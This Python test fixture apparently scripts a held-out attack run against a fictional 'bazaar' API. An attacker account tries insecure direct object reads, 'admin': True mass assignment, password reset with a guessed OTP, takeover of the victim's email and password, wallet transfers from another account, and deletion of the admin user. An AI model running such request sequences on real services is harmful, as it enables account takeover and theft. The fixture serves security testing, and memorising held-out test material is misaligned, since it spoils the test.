"""What can an attacker with a pencil do to the bazaar, step by step?

`v` is ann, `a` is bob, `n` is nobody; everybody signs in first, as any client has to.
"""

from __future__ import annotations

from typing import Any

from tests.targets.heldout_attacks import Step, step
from tests.targets.heldout_bazaar_target import ADDRESSES, MESSAGE, ORDER, PASSWORDS, REVIEW, USER

ANN, BOB = "ann@bazaar.example", "bob@bazaar.example"


def signed_in(who: str, username: str) -> Step:
    body: Any = {"username": username, "password": PASSWORDS[username]}
    return step("n", "POST /users/v1/login", body, f"{who}=token")


BAZAAR = [
    signed_in("v", "ann"),
    signed_in("a", "bob"),
    step("v", f"PUT {USER}/profile", {"name": "victim", "bio": "tea"}, username="ann"),
    step("v", "POST /orders/v1", {"sku": "TEA-1", "note": "victim's"}, "vo=orderId"),
    step("v", "POST /reports/v1", {"orderId": "{vo}", "text": "victim's"}, "vr=reportId"),
    step("v", "POST /giftcards/v1", {"amount": 5, "greeting": "victim's"}, "vg=number"),
    step("v", "POST /messages/v1", {"to": "admin", "text": "victim's"}, "vm=messageId"),
    step("v", "POST /wallet/v1/transfer", {"to_account": "10001", "memo": "victim's"}),
    step("v", f"POST {ADDRESSES}", {"label": "home", "street": "victim's"}, email=ANN),
    step("v", f"POST {REVIEW}", {"text": "tea!"}, "vw=reviewId", sku="TEA-1"),
    step("a", "GET /users/v1"),
    step("a", f"GET {USER}", username="ann"),
    step("a", f"GET {ORDER}", orderId="{vo}"),
    step("a", "GET /reports/v1", {"report_id": "{vr}"}),
    step("a", "GET /giftcards/v1/{number}", number="{vg}"),
    step("a", f"GET {MESSAGE}", messageId="{vm}"),
    step("a", "GET /wallet/v1/{accountNo}", accountNo="10002"),
    step("n", "POST /users/v1/forgot", {"email": ANN}),
    step("a", f"GET {USER}/orders", username="ann"),
    step("a", f"GET {ADDRESSES}", email=ANN),
    step("a", "GET /orders/v1/all"),
    step("a", "GET /wallet/v1/transactions"),
    step("a", "GET /messages/v1", {"username": "ann"}),
    step("a", "GET /users/v1/_debug"),
    step("a", "POST /products/v1", {"sku": "X-1", "name": "attacker's"}),
    step("a", "POST /coupons/v1", {"code": "FREE", "percent": 100}),
    step("a", "POST /reports/v1", {"orderId": "{vo}", "text": "attacker's"}),
    step("a", f"POST {ADDRESSES}", {"label": "work", "street": "attacker's"}, email=ANN),
    step("v", f"GET {ADDRESSES}", email=ANN),
    step("a", "POST /orders/v1", {"sku": "TEA-1", "username": "ann"}),
    step("a", "POST /orders/v1", {"sku": "TEA-1"}, "ao=orderId"),
    step("a", f"PUT {ORDER}", {"status": "refunded"}, orderId="{ao}"),
    step("a", "POST /messages/v1", {"to": "admin", "text": "hi", "from": "ann"}),
    step("n", "POST /users/v1/register", {"username": "eve", "password": "e", "admin": True}),
    step("a", f"PUT {USER}/profile", {"bio": "b", "admin": True}, username="bob"),
    step("a", f"PUT {ORDER}", {"note": "changed"}, orderId="{vo}"),
    step("a", f"POST {ORDER}/return", orderId="{vo}"),
    step("a", f"PUT {REVIEW}/{{reviewId}}", {"text": "bad"}, sku="TEA-1", reviewId="{vw}"),
    step("a", "POST /wallet/v1/transfer", {"from_account": "10002", "to_account": "10003"}),
    step("a", "POST /wallet/v1/transfer", {"to_account": "10002", "memo": "for you"}),
    step("v", "GET /wallet/v1/transactions"),
    step("a", f"DELETE {ADDRESSES}/{{label}}", email=ANN, label="home"),
    step("a", f"DELETE {REVIEW}/{{reviewId}}", sku="TEA-1", reviewId="{vw}"),
    step("a", f"DELETE {MESSAGE}", messageId="{vm}"),
    step("v", f"GET {MESSAGE}", messageId="{vm}"),
    step("a", "POST /giftcards/v1/redeem", {"number": "{vg}"}),
    step("n", "POST /users/v1/reset", {"email": ANN, "otp": "0", "password": "taken"}),
    step("a", f"PUT {USER}/password", {"password": PASSWORDS["bob"]}, username="ann"),
    step("n", "POST /users/v1/login", {"username": "ann", "password": PASSWORDS["ann"]}),
    step("a", f"PUT {USER}/email", {"email": BOB}, username="ann"),
    step("a", f"PUT {USER}/profile", {"name": "changed"}, username="ann"),
    step("a", f"DELETE {USER}", username="admin"),
    step("a", "POST /users/v1/logout"),
    step("a", "GET /wallet/v1"),
]
